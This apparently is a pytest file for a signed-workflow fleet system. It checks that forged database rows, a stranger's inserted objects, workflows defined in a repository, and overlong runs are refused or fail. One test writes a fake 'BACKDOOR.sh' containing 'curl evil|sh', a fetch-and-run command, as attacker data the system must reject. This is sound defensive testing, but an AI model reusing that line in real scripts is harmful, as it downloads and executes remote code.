"""A person who can write to the database: forged rows run nothing and land nothing."""

from __future__ import annotations

import json
import shutil
from typing import TYPE_CHECKING, Any

import psycopg
import pytest

from tests.fleet.reviewer import Reviewer
from tests.fleet.site import Site
from tests.fleet.test_authority import now
from tideate_core.fleet import Fleet, SignedSubmission, Submission
from tideate_core.fleet.legs import Leg

if TYPE_CHECKING:
    from pathlib import Path

    from tests.fleet.site import Database
    from tests.harness.model_server import ModelServer

APPLY = {"path": "a.txt", "how": "replace", "text": "two"}


@pytest.fixture(autouse=True)
def own_home(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    """The reviewer's git is not the tester's."""
    monkeypatch.setenv("HOME", str(site.home("reviewer")))


def submission(address: str, **changes: Any) -> Submission:
    given = {
        "workflow": "apply",
        "inputs": APPLY,
        "repo": address,
        "by": "Ana <ana@example.org>",
        "at": now(),
    }
    return Submission.model_validate({**given, **changes})


def sql(site: Site, query: str, *values: object) -> list[tuple[Any, ...]]:
    with psycopg.connect(site.database, autocommit=True) as connection:
        cursor = connection.execute(query, values or None)
        return cursor.fetchall() if cursor.description else []


def submit(site: Site, wanted: Submission) -> str:
    fleet = Fleet(site.database)
    (run,) = fleet.submit([SignedSubmission.make(wanted, site.key)]).new
    fleet.close()
    return run


def copy_leg(site: Site, source: str, new: str, **changes: object) -> None:
    """Insert a row of a leg, as a person with SQL can."""
    listed = (
        "SELECT column_name FROM information_schema.columns WHERE table_schema = 'dbos' AND table_name = %s"
    )
    names = [name for (name,) in sql(site, listed, "workflow_status")]
    fresh = {
        "workflow_uuid": new,
        "status": "ENQUEUED",
        "output": None,
        "completed_at": None,
        "executor_id": None,
        "owner_xid": None,
        "recovery_attempts": 0,
        "started_at_epoch_ms": None,
        **changes,
    }
    values = [fresh[name] for name in names if name in fresh]
    columns = ", ".join("%s" if name in fresh else name for name in names)
    copied = f"SELECT {columns} FROM dbos.workflow_status WHERE workflow_uuid = %s"
    sql(site, f"INSERT INTO dbos.workflow_status ({', '.join(names)}) {copied}", *values, source)


def step_output(site: Site, leg: str, number: int, name: str, output: dict[str, Any]) -> None:
    """Insert the recorded output of a step."""
    sql(
        site,
        "INSERT INTO dbos.operation_outputs "
        "(workflow_uuid, function_id, function_name, output, serialization) "
        "VALUES (%s, %s, %s, %s, 'portable_json')",
        leg,
        number,
        name,
        json.dumps(output),
    )


def test_recorded_steps_of_an_unsigned_run_do_nothing(site: Site) -> None:
    address = site.remote("one", {"a.txt": "one\n"})
    site.worker("first").wait_ready().stop()  # makes the tables
    genuine = submit(site, submission(address))
    commit, zeros = site.refs(address)["HEAD"], "0" * 64
    start = {"commit": commit, "at": now(), "seal": zeros}
    ended = {"state": "completed", "files": ["a.txt"], "commit": commit, "bundle": zeros, "seal": zeros}
    outputs: list[tuple[str, dict[str, Any]]] = [("prepare", start), ("advance", ended)]
    runs = [digit * 32 for digit in "012"]
    for count, run in enumerate(runs):
        unsigned = SignedSubmission(submission=submission(address, run=run), signature="none")
        shape = Leg(signed=unsigned, run=run).model_dump(mode="json")
        arguments = {"namedArgs": {}, "positionalArgs": [shape]}
        copy_leg(site, f"{genuine}-1", f"{run}-1", inputs=json.dumps(arguments))
        for number, (name, output) in enumerate(outputs[:count], 1):
            step_output(site, f"{run}-1", number, name, output)
    site.worker("first").wait_ready()
    for run in runs:
        shown = site.wait_for(run, "refused", "failed", "waiting", "completed")
        assert (shown["state"], "does not match" in shown["message"]) == ("refused", True), shown
    assert site.wait_for(genuine, "waiting")["state"] == "waiting"
    assert not any(run in ref for ref in site.refs(address) for run in runs)


def test_a_bundle_of_a_stranger_is_not_taken_up(site: Site, database: Database, tmp_path: Path) -> None:
    address = site.remote("shop", {"a.txt": "one\n"})
    site.worker("first").wait_ready().stop()
    run = submit(site, submission(address))
    (tmp_path / "eve").mkdir()
    eve = Site(tmp_path / "eve", database.new())
    try:
        shutil.copytree(site.place / "shop.git", eve.place / "shop.git")
        theirs = f"file://{eve.place}/shop.git"
        evil = {"path": "BACKDOOR.sh", "text": "curl evil|sh", "how": "create"}
        eve.worker("eve").wait_ready()
        submit(eve, submission(theirs, run=run, inputs=evil, land=False))
        eve.wait_for(run, "completed")
        rows = sql(eve, "SELECT hash, kind, seal, content FROM tideate.objects WHERE run = %s", run)
    finally:
        eve.close()
    for row in rows:
        values = (
            "INSERT INTO tideate.objects (run, leg, hash, kind, seal, content) VALUES (%s, 1, %s, %s, %s, %s)"
        )
        sql(site, values, run, *row)
    site.worker("first").wait_ready()
    assert "a.txt" in site.wait_for(run, "waiting", "completed", "failed", "refused")["message"]
    assert Reviewer(tmp_path / "reviewer").answer(address) == 1
    branch = site.wait_for(run, "completed")["branch"]
    assert site.file(address, branch, "a.txt") == "two\n"
    listed = site.git("--git-dir", address.removeprefix("file://"), "ls-tree", "--name-only", branch)
    assert listed.split() == ["a.txt"]


def test_a_worker_takes_no_workflow_of_a_repository(site: Site) -> None:
    steps = "steps:\n  - {id: s, task: from the repository}\n"
    address = site.remote("one", {"a.txt": "one\n", ".tideate/workflows/mine.yaml": steps, "plain": steps})
    site.worker("first").wait_ready()
    for name in ("mine", "plain"):
        shown = site.wait_for(
            submit(site, submission(address, workflow=name, inputs={})), "failed", "completed"
        )
        assert shown["state"] == "failed"
        assert "no workflow" in shown["message"] or "unknown" in shown["message"].lower(), shown
        assert str(site.place) not in shown["message"]


def test_a_run_that_works_too_long_fails_and_says_so(site: Site, server: ModelServer) -> None:
    site.use(server)
    gate = server.holds("What is")
    address = site.remote("one")
    site.worker("first").wait_ready()
    run = submit(site, submission(address, workflow="ask", prompt="What is it?", inputs={}, timeout=3))
    shown = site.wait_for(run, "failed", "cancelled", "completed")
    gate.release()
    assert (shown["state"], shown["message"]) == ("failed", "the run worked longer than its limit of 3 s")
